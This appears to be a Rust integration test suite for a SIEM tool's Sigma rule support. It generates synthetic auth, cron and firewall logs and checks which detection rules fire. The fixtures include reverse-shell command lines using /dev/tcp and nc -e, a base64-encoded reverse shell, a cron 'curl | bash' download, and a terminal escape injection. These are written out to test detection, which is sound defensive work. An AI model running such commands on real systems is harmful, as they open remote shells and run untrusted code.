//! Sigma rules through the real `siemtrigger`: the shipped example rules
//! (`config/sigma/rules/`) fire exactly where intended over generated logs,
//! a Sigma correlation gives the same alerts as the equivalent TOML rule
//! (across runs: durable state, exactly once), refusals are loud, and
//! `--import-sigma` prints rules that load.

use std::path::{Path, PathBuf};

use siemstress_tests::{Env, Kind, kinds};

/// Epoch seconds of 2024-01-01T00:00:00Z.
const BASE: i64 = 1_704_067_200;

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

/// An RFC3164 line `sec` seconds after BASE.
fn line(sec: i64, host: &str, process: &str, msg: &str) -> String {
    let t = chrono::DateTime::from_timestamp(BASE + sec, 0).unwrap();
    format!(
        "{} {host} {process}[100]: {msg}\n",
        t.format("%b %e %H:%M:%S")
    )
}

fn fail(sec: i64, user: &str, ip: &str) -> String {
    line(
        sec,
        "web01",
        "sshd",
        &format!("Failed password for {user} from {ip} port 4242 ssh2"),
    )
}

fn accept(sec: i64, user: &str, ip: &str) -> String {
    line(
        sec,
        "web01",
        "sshd",
        &format!("Accepted password for {user} from {ip} port 4242 ssh2"),
    )
}

fn sudo(sec: i64, user: &str, target: &str, command: &str) -> String {
    line(
        sec,
        "web01",
        "sudo",
        &format!("{user} : TTY=pts/1 ; PWD=/home/{user} ; USER={target} ; COMMAND={command}"),
    )
}

/// An env with sections auth and default (UTC), the Sigma files `files`
/// (name, text) in `sigma/`, and `extra` config.
fn setup(kind: Kind, files: &[(&str, String)], extra: &str) -> Env {
    let env = Env::new(kind);
    let dir = env.path().join("sigma");
    std::fs::create_dir_all(&dir).unwrap();
    for (name, text) in files {
        std::fs::write(dir.join(name), text).unwrap();
    }
    env.config(&format!(
        "[section.auth]\ntable = \"auth\"\ntimezone = \"UTC\"\n\n\
         [section.default]\ntable = \"default\"\ntimezone = \"UTC\"\n\n\
         [rules]\npaths = [\"sigma/*.yml\"]\n\n{extra}"
    ));
    env
}

fn shipped(name: &str) -> (&str, String) {
    let path = root().join("config/sigma/rules").join(name);
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path:?}: {e}"));
    (Box::leak(name.to_owned().into_boxed_str()) as &str, text)
}

fn ingest(env: &Env, section: &str, lines: &[String]) {
    env.ingest(
        &["-s", section, "--year", "2024"],
        lines.concat().as_bytes(),
    );
}

fn once(env: &Env) -> String {
    let (code, out, err) = env.run("siemtrigger", &["--once"], b"");
    assert_eq!(code, 0, "siemtrigger --once: {out}{err}");
    err
}

/// (rule, key, ts s, first_ts s, count) of every alert, by rule then time.
fn alerts(env: &Env) -> Vec<(String, String, i64, i64, i64)> {
    let q = if env.kind == Kind::Mysql {
        "`key`"
    } else {
        "\"key\""
    };
    env.rows(&format!(
        "SELECT rule, {q}, ts, first_ts, count FROM alerts ORDER BY rule, ts, id"
    ))
    .into_iter()
    .map(|r| {
        let n = |i: usize| r[i].as_deref().unwrap().parse::<i64>().unwrap();
        (
            r[0].clone().unwrap(),
            r[1].clone().unwrap(),
            n(2) / 1000 - BASE,
            n(3) / 1000 - BASE,
            n(4),
        )
    })
    .collect()
}

/// Event ids of each alert of `rule`, in time order.
fn alert_event_ids(env: &Env, rule: &str) -> Vec<Vec<i64>> {
    let ids = env.rows(&format!(
        "SELECT id FROM alerts WHERE rule = '{rule}' ORDER BY ts, id"
    ));
    ids.into_iter()
        .map(|r| {
            let id = r[0].clone().unwrap();
            env.rows(&format!(
                "SELECT event_id FROM alert_events WHERE alert_id = {id} ORDER BY event_id"
            ))
            .into_iter()
            .map(|r| r[0].as_deref().unwrap().parse().unwrap())
            .collect()
        })
        .collect()
}

fn a(rule: &str, key: &str, ts: i64, first: i64, count: i64) -> (String, String, i64, i64, i64) {
    (rule.into(), key.into(), ts, first, count)
}

/// The example rules of `config/sigma/rules/`.
const SHIPPED: &[&str] = &[
    "ssh_bruteforce.yml",
    "ssh_password_spraying.yml",
    "ssh_fail_then_success.yml",
    "sudo_to_root.yml",
    "user_added.yml",
    "cron_suspicious.yml",
    "reverse_shell.yml",
    "firewall_bytes_sum.yml",
];

#[test]
fn shipped_sigma_rules_fire_exactly_where_intended() {
    let files: Vec<(&str, String)> = SHIPPED.iter().map(|n| shipped(n)).collect();
    let mut auth = Vec::new();
    // Brute force: 6 failures of root from .9 in 25 s (fires at the 5th);
    // 4 from .7 in a minute (one short).
    for i in 0..6 {
        auth.push(fail(i * 5, "root", "10.0.0.9"));
    }
    for i in 0..4 {
        auth.push(fail(i * 15, "root", "10.0.0.7"));
    }
    // Spraying: 4 users from .8 (fires at the 4th); 3 users (one repeated) from .6.
    for (i, u) in ["a", "b", "c", "d"].iter().enumerate() {
        auth.push(fail(100 + i as i64, u, "10.0.0.8"));
    }
    for (i, u) in ["a", "b", "a", "c"].iter().enumerate() {
        auth.push(fail(100 + i as i64, u, "10.0.0.6"));
    }
    // Failure then success: d from .8 (fires at the success); a success
    // without a failure; a success before a failure.
    auth.push(accept(200, "d", "10.0.0.8"));
    auth.push(accept(210, "e", "10.0.0.5"));
    auth.push(accept(400, "f", "10.0.0.4"));
    auth.push(fail(410, "f", "10.0.0.4"));
    // sudo as root: fires for alice; not a failed attempt, another target, or root itself.
    auth.push(sudo(500, "alice", "root", "/usr/bin/id"));
    auth.push(line(
        501,
        "web01",
        "sudo",
        "mallory : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh",
    ));
    auth.push(sudo(502, "bob", "nobody", "/usr/bin/id"));
    auth.push(sudo(503, "root", "root", "/usr/bin/id"));
    // Reverse shells (as nobody: not sudo-to-root): /dev/tcp, nc -e, base64 bash -i.
    auth.push(sudo(
        600,
        "bob",
        "nobody",
        "/bin/bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    ));
    auth.push(sudo(
        601,
        "bob",
        "nobody",
        "/usr/bin/nc 203.0.113.5 4444 -e /bin/sh",
    ));
    auth.push(sudo(
        602,
        "bob",
        "nobody",
        "/bin/sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNS80NDQ0IDA+JjE= | base64 -d | sh",
    ));
    auth.push(sudo(603, "bob", "nobody", "/usr/bin/ncdu /tmp"));
    auth.push(sudo(
        604,
        "bob",
        "nobody",
        "/usr/bin/python3 -m http.server",
    ));
    // User added, and a failed useradd.
    auth.push(line(
        700,
        "web01",
        "useradd",
        "new user: name=eve, UID=1001, GID=1001, home=/home/eve, shell=/bin/bash, from=/dev/pts/0",
    ));
    auth.push(line(
        701,
        "web01",
        "useradd",
        "failed adding user 'x', exit code: 9",
    ));
    let mut default = vec![
        // Cron: a download piped into a shell, a job in /tmp; a normal job.
        line(
            800,
            "web02",
            "CRON",
            "(root) CMD (curl -s http://198.51.100.7/x.sh | bash)",
        ),
        line(801, "web02", "CRON", "(www) CMD (/tmp/.x/miner)"),
        line(
            802,
            "web02",
            "CRON",
            "(root) CMD (cd / && run-parts --report /etc/cron.hourly)",
        ),
        line(
            803,
            "web02",
            "CRON",
            "(root) CMD (curl -s http://198.51.100.7/ok)",
        ),
    ];
    // Bytes: .96 moves 1.1 MB in an hour (fires at the second); .97 0.9 MB.
    let teardown = |sec: i64, ip: &str, bytes: u64| {
        line(
            sec,
            "fw01",
            "asa1",
            &format!(
                "%ASA-6-302014: Teardown TCP connection 4711 for outside:{ip}/51000 to inside:192.0.2.31/443 duration 0:00:30 bytes {bytes} TCP FINs"
            ),
        )
    };
    default.push(teardown(900, "203.0.113.96", 600_000));
    default.push(teardown(901, "203.0.113.97", 400_000));
    default.push(teardown(1900, "203.0.113.96", 500_000));
    default.push(teardown(1901, "203.0.113.97", 500_000));
    for kind in kinds() {
        let env = setup(kind, &files, "");
        ingest(&env, "auth", &auth);
        ingest(&env, "default", &default);
        let err = once(&env);
        assert!(!err.contains("skipping"), "{err}");
        let mut got = alerts(&env);
        got.sort();
        let mut want = vec![
            a("ssh-brute-force", "10.0.0.9", 20, 0, 5),
            a(
                "ssh-password-spraying-across-users",
                "10.0.0.8",
                103,
                100,
                4,
            ),
            a("ssh-login-after-failures", "10.0.0.8 d", 200, 103, 2),
            a("command-run-as-root-through-sudo", "web01", 500, 500, 1),
            a("reverse-shell-command-line", "web01", 600, 600, 1),
            a("reverse-shell-command-line", "web01", 601, 601, 1),
            a("reverse-shell-command-line", "web01", 602, 602, 1),
            a("linux-user-account-created", "web01", 700, 700, 1),
            a("suspicious-cron-job-command", "web02", 800, 800, 1),
            a("suspicious-cron-job-command", "web02", 801, 801, 1),
            a(
                "large-transfer-from-one-address",
                "203.0.113.96",
                1900,
                900,
                1_100_000,
            ),
        ];
        want.sort();
        assert_eq!(got, want, "{kind:?}");
        // A second run raises nothing again.
        once(&env);
        assert_eq!(alerts(&env).len(), want.len(), "{kind:?}");
        // --explain works on a Sigma rule's alert.
        let id = env.rows("SELECT id FROM alerts WHERE rule = 'ssh-brute-force'")[0][0]
            .clone()
            .unwrap();
        let (code, out, err) = env.run("siemtrigger", &["--explain", &id], b"");
        assert_eq!(code, 0, "{out}{err}");
        assert!(
            out.contains("ssh-brute-force") && out.contains("10.0.0.9"),
            "{out}"
        );
        // --explain-rule shows the SQL condition, the Rust-side matchers
        // and the prefilter's literals.
        let (code, out, err) = env.run(
            "siemtrigger",
            &[
                "--explain-rule",
                "ssh-login-after-failures",
                "--range",
                "20240101000000-20240102000000",
            ],
            b"",
        );
        assert_eq!(code, 0, "{err}");
        assert!(out.contains("match: SQL: 1"), "{out}");
        assert!(
            out.contains(
                "match: step 2: process re '(?is)^sshd$' and message re '(?is)^Accepted '"
            ),
            "{out}"
        );
        // ... and the literals the matcher gives the shared prefilter.
        assert!(
            out.contains(
                "match: prefilter: message contains 'accepted ' or message contains 'word for ' \
                 (ASCII case-insensitive)"
            ),
            "{out}"
        );
        // --list-rules names the Sigma file and the line of the rule's title.
        let (_, out, _) = env.run("siemtrigger", &["--list-rules"], b"");
        assert!(out.contains("sigma/ssh_password_spraying.yml:1"), "{out}");
    }
}

/// The Sigma brute force and spraying correlations, and the TOML rules a
/// person would write for them.
const TOML_EQUIVALENTS: &str = r#"
[[rule]]
name = "toml-brute"
type = "threshold"
table = "auth"
match = { process = ["sshd"], regex = 'sshd\[\d+\]: Failed (?:password|publickey) for ' }
key = "{source_host}"
window = "60s"
threshold = 5

[[rule]]
name = "toml-spray"
type = "threshold"
table = "auth"
match = { process = ["sshd"], regex = 'sshd\[\d+\]: Failed password for ' }
key = "{source_host}"
window = "10m"
threshold = 4
distinct = "user"
"#;

#[test]
fn sigma_correlations_equal_their_toml_rules_across_runs() {
    let files = vec![
        shipped("ssh_bruteforce.yml"),
        shipped("ssh_password_spraying.yml"),
    ];
    // A pseudo-random stream of failures: 6 addresses, 8 users, gaps of 0-20 s.
    let mut lines = Vec::new();
    let mut x: u64 = 0x2545_f491_4f6c_dd1d;
    let mut t = 0;
    for _ in 0..600 {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        t += (x % 21) as i64;
        let ip = format!("198.51.100.{}", (x >> 8) % 6);
        let user = format!("u{}", (x >> 16) % 8);
        lines.push(fail(t, &user, &ip));
        if (x >> 24).is_multiple_of(9) {
            lines.push(accept(t, &user, &ip));
        }
    }
    for kind in kinds() {
        let env = setup(kind, &files, TOML_EQUIVALENTS);
        // In two halves, with a run after each: state carries over.
        let (first, second) = lines.split_at(lines.len() / 2);
        ingest(&env, "auth", first);
        once(&env);
        ingest(&env, "auth", second);
        once(&env);
        for (sigma, toml) in [
            ("ssh-brute-force", "toml-brute"),
            ("ssh-password-spraying-across-users", "toml-spray"),
        ] {
            let of = |rule: &str| -> Vec<(String, i64, i64, i64)> {
                alerts(&env)
                    .into_iter()
                    .filter(|r| r.0 == rule)
                    .map(|r| (r.1, r.2, r.3, r.4))
                    .collect()
            };
            let s = of(sigma);
            assert!(s.len() >= 3, "{kind:?} {sigma}: {s:?}");
            assert_eq!(s, of(toml), "{kind:?} {sigma}");
            assert_eq!(
                alert_event_ids(&env, sigma),
                alert_event_ids(&env, toml),
                "{kind:?} {sigma}"
            );
        }
    }
}

const BAD: &str = "title: Windows Thing\nid: bad-1\nlogsource:\n  product: windows\n  service: security\n\
                   detection:\n  sel:\n    EventID: 4625\n  condition: sel\n\
                   ---\ntitle: Old Aggregation\nid: bad-2\nlogsource:\n  product: linux\n  service: sshd\n\
                   detection:\n  sel:\n    Message|startswith: Failed\n  condition: sel | count() by SourceIp > 5\n\
                   ---\ntitle: Expand Placeholder\nid: bad-3\nlogsource:\n  product: linux\n\
                   detection:\n  sel:\n    User|expand: '%admins%'\n  condition: sel\n";

#[test]
fn untranslatable_rules_are_refused_loudly() {
    for kind in kinds() {
        let env = setup(
            kind,
            &[shipped("user_added.yml"), ("bad.yml", BAD.to_owned())],
            "",
        );
        let (code, out, err) = env.run("siemtrigger", &["--check"], b"");
        assert_eq!(code, 0, "{out}{err}");
        assert!(out.contains("linux-user-account-created"), "{out}");
        for (id, why) in [
            ("bad-1", "field EventID is not mapped"),
            ("bad-2", "pipe aggregation"),
            ("bad-3", "modifier expand is not supported"),
        ] {
            let l = err
                .lines()
                .find(|l| l.contains(id))
                .unwrap_or_else(|| panic!("{id} not named: {err}"));
            assert!(l.contains("bad.yml") && l.contains(why), "{l}");
        }
        assert!(err.contains("3 rules not loaded, from 1 files"), "{err}");
        // --import-sigma: the good rule as TOML, the others named; exit 1.
        let dir = env.path().join("sigma");
        let (code, out, err) = env.run(
            "siemtrigger",
            &["--import-sigma", dir.to_str().unwrap()],
            b"",
        );
        assert_eq!(code, 1, "{out}{err}");
        assert!(
            out.contains("name = \"linux-user-account-created\""),
            "{out}"
        );
        assert_eq!(err.matches("bad.yml").count(), 3, "{err}");
        assert!(err.contains("1 Sigma rules translated, 3 not"), "{err}");
    }
}

/// A Sigma file that cannot be read is an error with exit 2, as a TOML
/// rule file's is (it was a refused "rule" with exit 0: its rules missing
/// from a daemon that seemed fine). Not UTF-8 here: root reads a 000 file.
#[test]
fn an_unreadable_sigma_file_is_an_error() {
    let env = setup(Kind::Sqlite, &[shipped("user_added.yml")], "");
    let latin1 = env.path().join("sigma/latin1.yml");
    std::fs::write(&latin1, b"title: Anmeldung f\xfcr root\n").unwrap();
    for args in [
        vec!["--check"],
        vec!["--import-sigma", latin1.to_str().unwrap()],
        vec!["--test-sigma", latin1.to_str().unwrap()],
    ] {
        let (code, out, err) = env.run("siemtrigger", &args, b"");
        assert_eq!(code, 2, "{args:?}: {out}{err}");
        let l = err.lines().find(|l| l.contains("latin1.yml"));
        assert!(
            l.is_some_and(|l| l.contains("cannot read") && l.contains("UTF-8")),
            "{args:?}: {err}"
        );
    }
}

#[test]
fn imported_toml_loads_and_gives_the_same_alerts() {
    for kind in kinds() {
        let env = setup(kind, &[shipped("ssh_fail_then_success.yml")], "");
        let (code, toml, err) = env.run(
            "siemtrigger",
            &[
                "--import-sigma",
                root()
                    .join("config/sigma/rules/ssh_fail_then_success.yml")
                    .to_str()
                    .unwrap(),
            ],
            b"",
        );
        assert_eq!(code, 0, "{err}");
        // The same rule as TOML, under another name, next to the Sigma one.
        let toml = toml.replace("ssh-login-after-failures", "as-toml");
        std::fs::write(env.path().join("imported.toml"), &toml).unwrap();
        env.config(
            "[section.auth]\ntable = \"auth\"\ntimezone = \"UTC\"\n\n\
             [rules]\npaths = [\"sigma/*.yml\", \"imported.toml\"]\n",
        );
        ingest(
            &env,
            "auth",
            &[
                fail(0, "a", "10.0.0.1"),
                accept(30, "a", "10.0.0.1"),
                accept(40, "b", "10.0.0.1"),
                fail(50, "b", "10.0.0.1"),
                fail(60, "c", "10.0.0.2"),
                accept(700, "c", "10.0.0.2"),
            ],
        );
        once(&env);
        let got = alerts(&env);
        assert_eq!(
            got,
            [
                a("as-toml", "10.0.0.1 a", 30, 0, 2),
                a("ssh-login-after-failures", "10.0.0.1 a", 30, 0, 2),
            ],
            "{kind:?}"
        );
    }
}

#[test]
fn logsource_and_field_mapping_come_from_the_config() {
    let rule = "title: Su To Root\nid: su-1\nlogsource:\n  product: linux\n  service: su\n\
                detection:\n  sel:\n    Program: su\n    Target: root\n  condition: sel\n";
    for kind in kinds() {
        // Unmapped field: refused, naming the way to map it.
        let env = setup(kind, &[("su.yml", rule.to_owned())], "");
        let (_, _, err) = env.run("siemtrigger", &["--check"], b"");
        assert!(err.contains("field Target is not mapped"), "{err}");
        // Mapped in the config, and the logsource moved to the default section.
        let env = setup(
            kind,
            &[("su.yml", rule.to_owned())],
            "[sigma.fields]\nTarget = \"extra.target_user\"\n\n[sigma.logsource]\n\"linux/su\" = \"default\"\n",
        );
        let (code, out, err) = env.run("siemtrigger", &["--check"], b"");
        assert_eq!(code, 0, "{out}{err}");
        assert!(out.contains("su-to-root\tsingle\tmedium\tdefault"), "{out}");
        ingest(
            &env,
            "default",
            &[
                line(0, "h1", "su", "(to root) alice on pts/0"),
                line(1, "h1", "su", "(to bob) alice on pts/0"),
            ],
        );
        ingest(
            &env,
            "auth",
            &[line(2, "h1", "su", "(to root) carol on pts/0")],
        );
        once(&env);
        assert_eq!(alerts(&env), [a("su-to-root", "h1", 0, 0, 1)], "{kind:?}");
    }
}

/// Many rules are checked through one prefilter pass per field
/// (`rules/prefilter.rs`): what case folding, JSON escaping and negation do
/// to the literals a rule requires must never lose a match. The Kelvin sign
/// and the long s are what `(?i)k` and `(?i)s` also match; a command line
/// with quotes is escaped in `extra`'s JSON; a negated search requires
/// nothing.
#[test]
fn the_prefilter_of_many_rules_loses_no_match() {
    let det = |name: &str, body: &str| {
        (
            Box::leak(format!("{name}.yml").into_boxed_str()) as &str,
            format!(
                "title: {name}\nname: {name}\nlogsource:\n  product: linux\n  service: sshd\n\
                 detection:\n{body}level: high\n"
            ),
        )
    };
    let mut files = vec![
        det(
            "kelvin",
            "  sel:\n    Message|contains: 'kernel panic'\n  condition: sel\n",
        ),
        det(
            "longs",
            "  keywords:\n    - 'session x'\n  condition: keywords\n",
        ),
        det(
            "devtcp",
            "  sel:\n    CommandLine|contains: '/dev/tcp/'\n  condition: sel\n",
        ),
        det(
            "upper",
            "  sel:\n    User|contains: 'ADMIN'\n  condition: sel\n",
        ),
        det(
            "negated",
            "  sel:\n    Message|contains: 'Failed password'\n  condition: not sel\n",
        ),
    ];
    for i in 0..40 {
        files.push(det(
            &format!("filler{i}"),
            &format!("  sel:\n    Message|contains: 'no such text {i}'\n  condition: sel\n"),
        ));
    }
    let lines = [
        line(0, "h0", "kernel", "\u{212A}ernel panic - not syncing"),
        line(1, "h1", "sshd", "\u{17F}e\u{17F}\u{17F}ion x opened"),
        line(
            2,
            "h2",
            "sudo",
            "alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -c \"bash -i >& /dev/tcp/10.9.9.9/4444 0>&1\"",
        ),
        line(
            3,
            "h3",
            "sshd",
            "Failed password for admin from 203.0.113.9 port 4242 ssh2",
        ),
    ];
    for kind in kinds() {
        let env = setup(kind, &files, "");
        ingest(&env, "auth", &lines);
        once(&env);
        assert_eq!(
            alerts(&env),
            [
                a("devtcp", "h2", 2, 2, 1),
                a("kelvin", "h0", 0, 0, 1),
                a("longs", "h1", 1, 1, 1),
                a("negated", "h0", 0, 0, 1),
                a("negated", "h1", 1, 1, 1),
                a("negated", "h2", 2, 2, 1),
                a("upper", "h3", 3, 3, 1),
            ],
            "{kind:?}"
        );
    }
}

/// `--test-sigma FILE [LOG]`: a rule file over given lines, for rule
/// authors: what each rule (and each detection a correlation refers to)
/// raised, with its lines, escaped; the configured database is not touched.
#[test]
fn test_sigma_runs_a_rule_file_over_given_lines() {
    let env = setup(Kind::Sqlite, &[shipped("ssh_bruteforce.yml")], "");
    let rule = env.path().join("sigma/ssh_bruteforce.yml");
    let rule = rule.to_str().unwrap();
    let mut lines: Vec<String> = (0..5)
        .map(|i| fail(i * 10, "root", "203.0.113.7"))
        .collect();
    lines.push(fail(100, "\u{1b}]0;pwned\u{7}root", "198.51.100.9"));
    lines.push(accept(110, "bob", "10.0.0.1"));
    let input = lines.concat();
    let log = env.path().join("auth.log");
    std::fs::write(&log, &input).unwrap();
    let from_stdin = env.run("siemtrigger", &["--test-sigma", rule], input.as_bytes());
    let from_file = env.run(
        "siemtrigger",
        &["--test-sigma", rule, log.to_str().unwrap()],
        b"",
    );
    for (code, out, err) in [&from_stdin, &from_file] {
        assert_eq!(*code, 0, "{out}{err}");
        assert!(
            out.starts_with("7 lines into section auth (table auth); 2 rules from "),
            "{out}"
        );
        assert!(
            out.contains("\nssh-brute-force (correlation): 1 alert\n"),
            "{out}"
        );
        assert!(out.contains("[203.0.113.7]"), "{out}");
        assert!(
            out.contains("\nssh_failed_login (detection): 6 alerts\n"),
            "{out}"
        );
        // The five failures under the correlation's alert, then one line per detection alert.
        assert_eq!(
            out.matches("from 203.0.113.7 port 4242").count(),
            10,
            "{out}"
        );
        assert!(!out.contains("Accepted"), "{out}");
        // Text of the log reaches the terminal escaped.
        assert!(!out.contains('\u{1b}') && !out.contains('\u{7}'), "{out}");
        assert!(out.contains(r"\x1b]0;pwned\x07root"), "{out}");
    }
    assert_eq!(from_stdin.1, from_file.1);
    assert!(
        !env.path().join("test.db").exists(),
        "the configured database was written"
    );
    // A file that does not translate: named, with the reason, exit status 2.
    let bad = env.path().join("bad.yml");
    std::fs::write(
        &bad,
        "title: Bad\ndetection:\n  sel:\n    Nope: x\n  condition: sel\n",
    )
    .unwrap();
    let (code, out, err) = env.run("siemtrigger", &["--test-sigma", bad.to_str().unwrap()], b"");
    assert_eq!(code, 2, "{out}{err}");
    assert!(
        err.contains("bad.yml") && err.contains("field Nope is not mapped"),
        "{err}"
    );
    // LOG without --test-sigma is a usage error.
    let (code, _, err) = env.run("siemtrigger", &["--once", "x.log"], b"");
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("x.log: a log file argument is only read with --test-sigma"),
        "{err}"
    );
}

/// `siemtrigger --test-sigma RULE` with its temporary directory under
/// `tmp`, every stream piped.
fn spawn_test_sigma(
    env: &Env,
    tmp: &std::path::Path,
    rule: &std::path::Path,
) -> std::io::Result<std::process::Child> {
    env.cmd("siemtrigger")
        .env("TMPDIR", tmp)
        .arg("--test-sigma")
        .arg(rule)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
}

/// `--test-sigma` with a file whose rules read different tables (sshd's
/// `auth`, cron's `default`): the lines reach each table, so each rule sees
/// them (before, only the first rule's table got them). The temporary
/// directory's path holds `?`, `#` and `%` (a URL built by hand broke there).
#[test]
fn test_sigma_stores_the_lines_for_every_rule_of_the_file() {
    let env = setup(Kind::Sqlite, &[], "");
    let cron = shipped("cron_suspicious.yml").1;
    let text = format!(
        "{cron}---\ntitle: SSH Failure\nlogsource:\n    product: linux\n    service: sshd\n\
         detection:\n    sel:\n        ProcessName: sshd\n        Message|startswith: 'Failed password'\n\
         \x20   condition: sel\nlevel: low\n"
    );
    let rule = env.path().join("mixed.yml");
    std::fs::write(&rule, text).unwrap();
    let tmp = env.path().join("t?m#p%41");
    std::fs::create_dir(&tmp).unwrap();
    let input = [
        fail(0, "root", "203.0.113.7"),
        line(5, "web01", "cron", "(root) CMD (/tmp/.x/run.sh)"),
    ]
    .concat();
    let out = spawn_test_sigma(&env, &tmp, &rule)
        .and_then(|mut c| {
            use std::io::Write;
            c.stdin.take().unwrap().write_all(input.as_bytes())?;
            c.wait_with_output()
        })
        .unwrap();
    let (o, e) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(out.status.success(), "{o}{e}");
    assert!(
        o.starts_with(
            "2 lines into section default (table default), section auth (table auth); 2 rules"
        ),
        "{o}"
    );
    assert!(
        o.contains("\nsuspicious-cron-job-command (detection): 1 alert\n"),
        "{o}"
    );
    assert!(o.contains("\nssh-failure (detection): 1 alert\n"), "{o}");
    assert_eq!(std::fs::read_dir(&tmp).unwrap().count(), 0, "left behind");
}

/// SIGTERM or SIGINT while `--test-sigma` waits for its lines: exit 2 with a
/// message, and its temporary directory removed (a signal's default action
/// left it behind).
#[test]
fn test_sigma_removes_its_directory_when_stopped() {
    let env = setup(Kind::Sqlite, &[shipped("ssh_bruteforce.yml")], "");
    let rule = env.path().join("sigma/ssh_bruteforce.yml");
    for (sig, name) in [(libc::SIGTERM, "SIGTERM"), (libc::SIGINT, "SIGINT")] {
        let tmp = env.path().join(format!("tmp-{name}"));
        std::fs::create_dir(&tmp).unwrap();
        // stdin stays open: the run waits for lines.
        let mut child = spawn_test_sigma(&env, &tmp, &rule).unwrap();
        let start = std::time::Instant::now();
        while std::fs::read_dir(&tmp).unwrap().count() == 0 {
            assert!(start.elapsed().as_secs() < 30, "no temporary directory");
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        // Time to set up its signal handlers after making the directory.
        std::thread::sleep(std::time::Duration::from_millis(300));
        // SAFETY: kill(2) on our own child.
        unsafe { libc::kill(child.id() as i32, sig) };
        let stdin = child.stdin.take();
        let out = child.wait_with_output().unwrap();
        drop(stdin);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{name}: {err}");
        assert!(err.contains(&format!("stopped by {name}")), "{err}");
        assert_eq!(
            std::fs::read_dir(&tmp).unwrap().count(),
            0,
            "{name}: left behind"
        );
    }
}

/// The shipped Sigma examples load next to the built-in pack (`[rules]
/// builtin = true`); a rule of yours named as a built-in one is an error
/// naming your file and the way out.
#[test]
fn sigma_rules_next_to_the_built_in_pack() {
    let files: Vec<(&str, String)> = SHIPPED.iter().map(|n| shipped(n)).collect();
    let env = setup(Kind::Sqlite, &files, "builtin = true\n");
    let (code, out, err) = env.run("siemtrigger", &["--check"], b"");
    assert_eq!(code, 0, "{out}{err}");
    let mine = "title: SSH Password Spraying\nlogsource:\n    product: linux\n    service: sshd\n\
                detection:\n    sel:\n        ProcessName: sshd\n    condition: sel\n";
    std::fs::write(env.path().join("sigma/mine.yml"), mine).unwrap();
    let (code, out, err) = env.run("siemtrigger", &["--check"], b"");
    assert_eq!(code, 2, "{out}{err}");
    assert!(
        err.contains("sigma/mine.yml, line 1: rule \"ssh-password-spraying\"")
            && err.contains("the built-in rule config/rules/ssh.toml:21 has that name")
            && err.contains("[rules] disable = [\"ssh-password-spraying\"]"),
        "{err}"
    );
    let env2 = setup(
        Kind::Sqlite,
        &[("mine.yml", mine.to_owned())],
        "builtin = true\ndisable = [\"ssh-password-spraying\"]\n",
    );
    let (code, out, err) = env2.run("siemtrigger", &["--check"], b"");
    assert_eq!(code, 0, "{out}{err}");
}
